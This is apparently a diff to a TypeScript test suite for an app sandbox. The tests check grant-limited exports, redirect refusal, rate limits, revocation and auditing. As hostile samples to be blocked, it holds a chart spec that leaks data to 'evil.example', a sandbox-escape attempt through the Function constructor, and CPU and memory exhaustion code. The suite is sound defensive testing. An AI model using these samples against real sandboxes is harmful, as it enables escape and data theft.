@@ -9,7 +9,7 @@ import http from 'node:http'
 import zlib from 'node:zlib'
 import type { AddressInfo } from 'node:net'
 import tar from 'tar-stream'
-import { startBox, type Running } from './helpers.ts'
+import { startBox, until, type Running } from './helpers.ts'
 
 /** A probe app: runs the calls its event lists, one after another, and reports each outcome. */
 const PROBE = `
@@ -66,7 +66,8 @@ before(async () => {
     req.on('data', (d) => (body += d))
     req.on('end', () => {
       received.push({ url: req.url!, body })
-      res.writeHead(req.url === '/broken' ? 500 : 201).end('{}')
+      if (req.url === '/moved') res.writeHead(302, { location: '/reports' }).end()
+      else res.writeHead(req.url === '/broken' ? 500 : 201).end('{}')
     })
   })
   await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
@@ -172,12 +173,13 @@ test('a new app waits for consent; consent only narrows; the box enforces detail
 
 test('the gateway sends only to the exact granted destination, within its limits, and audits every request', async () => {
   received = []
-  const [sent, lookAlike, otherHost, tooBig, views] = await probe([
+  const [sent, lookAlike, otherHost, tooBig, views, undeclared] = await probe([
     { method: 'export', args: { destination, payload: { total: 42 } } },
     { method: 'export', args: { destination: destination + '/', payload: { total: 42 } } },
     { method: 'export', args: { destination: 'http://127.0.0.2:9/reports', payload: { total: 42 } } },
     { method: 'export', args: { destination, payload: 'x'.repeat(5000) } },
     { method: 'view', args: { id: 'chart', spec: { data: { url: 'https://evil.example/leak?d=1' }, mark: 'point' } } },
+    { method: 'view', args: { id: 'secret-chart', spec: { data: { values: [] }, mark: 'point' } } },
   ])
   assert.equal(sent!.ok, true)
   assert.equal(sent!.value.state, 'sent')
@@ -187,6 +189,10 @@ test('the gateway sends only to the exact granted destination, within its limits
   assert.equal(tooBig!.status, 413)
   assert.equal(views!.ok, false)
   assert.match(views!.message!, /may not use "url"/)
+  assert.equal(undeclared!.ok, false)
+  // Every refusal is an audit entry, the app bridge's own too.
+  const refusedViews = (await auditOf('app:probe', 'deny')).filter((e) => e.action.startsWith('APP views.show'))
+  assert.deepEqual(refusedViews.map((e) => e.action).sort(), ['APP views.show chart', 'APP views.show secret-chart'])
 
   const exports = await auditOf('app:probe')
   const ok = exports.find((e) => e.operation === 'export' && e.status === 200)!
@@ -223,7 +229,7 @@ test('revoking a running app stops it at once, its next call fails, and the audi
   const grant = box.box.arbiter.grants().find((g) => g.subject === 'app:looper' && g.description.endsWith('steps'))!
   const stolen = box.box.arbiter.mint(grant.id).token
   const run = box.api('POST', '/api/v1/apps/looper/run', { body: {} })
-  while ((await auditOf('app:looper', 'allow')).length < 3) await new Promise((r) => setTimeout(r, 20))
+  await until('the looping app to make three reads', async () => (await auditOf('app:looper', 'allow')).length >= 3 || undefined)
   assert.equal((await box.api('POST', '/api/v1/apps/looper/revoke')).status, 200)
   const stopped = await run
   assert.equal(stopped.status, 409)
@@ -283,16 +289,18 @@ test('uninstall removes the app, its grants and views, and its own data if asked
 })
 
 test('a hostile app is stopped at its limits, the refusal is audited, and the box keeps answering', async () => {
-  const hostile: [string, string, number][] = [
-    ['spinner', 'function main() { for (;;) {} }', 504],
-    ['hog', 'function main() { return new ArrayBuffer(256 * 1024 * 1024).byteLength }', 422],
-    ['escaper', 'function main() { return (() => {}).constructor("return process")().pid }', 422],
+  const hostile: [string, string, number, RegExp][] = [
+    ['spinner', 'function main() { for (;;) {} }', 504, /CPU time/],
+    ['hog', 'function main() { return new ArrayBuffer(256 * 1024 * 1024).byteLength }', 422, /memory/],
+    // The host's Function is out of reach: the sandbox's own has no `process` to return.
+    ['escaper', 'function main() { return (() => {}).constructor("return process")().pid }', 422, /ReferenceError: 'process' is not defined/],
   ]
-  for (const [id, code, status] of hostile) {
+  for (const [id, code, status, detail] of hostile) {
     await install(manifest({ id, exports: [], ownSources: [] }), code)
     assert.equal((await box.api('POST', `/api/v1/apps/${id}/grant`, { body: {} })).status, 200)
     const run = await box.api('POST', `/api/v1/apps/${id}/run`, { body: {} })
     assert.equal(run.status, status, `${id}: ${JSON.stringify(run.body)}`)
+    assert.match(run.body.detail, detail, id)
     const [entry] = await auditOf(`app:${id}`)
     assert.equal(entry!.operation, 'run')
     assert.equal(entry!.outcome, 'deny')
@@ -353,4 +361,18 @@ test('a destination takes at most twice its declared frequency', async () => {
   assert.equal((await box.api('POST', '/api/v1/apps/rater/grant', { body: { exports: { monthly: 'auto' } } })).status, 200)
   const results = await probe([1, 2, 3].map((n) => ({ method: 'export', args: { destination, payload: { n } } })), 'rater')
   assert.deepEqual(results.map((r) => r.ok ? r.value.state : r.status), ['sent', 'sent', 429])
+})
+
+test('every delivery attempt counts against the rate, failed or redirected; a redirect is never followed', async () => {
+  const base = destination.replace(/\/reports$/, '')
+  const exports = ['broken', 'moved'].map((path) => ({ id: path, url: `${base}/${path}`, purpose: 'A monthly report', sends: 'totals', frequency: 'monthly' }))
+  await install(manifest({ id: 'failing', exports, ownSources: [] }))
+  assert.equal((await box.api('POST', '/api/v1/apps/failing/grant', { body: { exports: { broken: 'auto', moved: 'auto' } } })).status, 200)
+  const before = received.length
+  for (const path of ['broken', 'moved']) {
+    const results = await probe([1, 2, 3].map((n) => ({ method: 'export', args: { destination: `${base}/${path}`, payload: { n } } })), 'failing')
+    assert.deepEqual(results.map((r) => r.ok ? r.value.state : r.status), [502, 502, 429], path)
+  }
+  // Two attempts reached each destination; the redirect's target received nothing.
+  assert.deepEqual(received.slice(before).map((r) => r.url), ['/broken', '/broken', '/moved', '/moved'])
 })
